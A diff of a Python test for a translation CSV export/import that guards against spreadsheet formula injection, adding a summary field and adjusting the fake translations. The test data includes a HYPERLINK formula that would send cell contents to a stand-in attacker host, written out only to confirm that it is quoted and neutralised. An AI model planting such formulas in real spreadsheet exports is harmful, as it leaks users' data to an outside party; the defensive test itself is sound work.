@@ -80,14 +80,16 @@ def test_words_a_spreadsheet_would_run_as_a_formula_are_exported_as_text_and_imp
     shows it rather than runs it; the filled-in sheet imports as if the quote were not there."""
     definition = set_welsh(blank(), welsh=True).apply(blank())
     definition["title"] = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    definition["summary"] = "'=1+1 is how a spreadsheet is told to show a sum as text"
     exported = rows(to_csv(definition))
     title = next(row for row in exported if row[0] == "title")
     assert title[1] == "'" + definition["title"]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row)
     for row in exported[1:]:
-        row[2] = f"Cymraeg: {row[1]}"
+        row[2] = f"Cymraeg: {row[0]}"
     title[2] = "'-Teitl gyda llinell"  # a translation starting with a dash, quoted as the spreadsheet keeps it
     out = io.StringIO()
     csv.writer(out).writerows(exported)
     translated = applied(definition, import_translations(definition, sheet=out.getvalue()))
     assert translated["translations"]["cy"]["title"] == "-Teitl gyda llinell"
+    assert translated["translations"]["cy"]["summary"] == "Cymraeg: summary"  # its English, quoted, matched
